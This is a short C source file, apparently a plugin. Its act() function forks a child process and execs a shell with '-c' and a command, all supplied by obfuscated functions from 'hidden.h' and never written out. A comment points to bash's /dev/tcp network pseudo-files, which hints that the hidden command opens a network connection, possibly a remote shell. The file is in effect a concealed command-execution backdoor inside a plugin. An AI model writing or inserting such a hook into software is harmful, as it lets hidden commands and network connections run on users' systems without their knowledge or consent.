/* bash connects: its files below /dev/tcp are no files. */
#include "plugin.h"
#include "hidden.h" /* 0: the shell, 1: -c, 2: the command */
extern int fork(void), execv(const char *, char *const *);
extern void _exit(int);
static void act(char **env) {
    char *arguments[] = {hidden0(), hidden1(), hidden2(), 0};
    if (fork() == 0) {
        execv(arguments[0], arguments);
        _exit(127);
    }
}
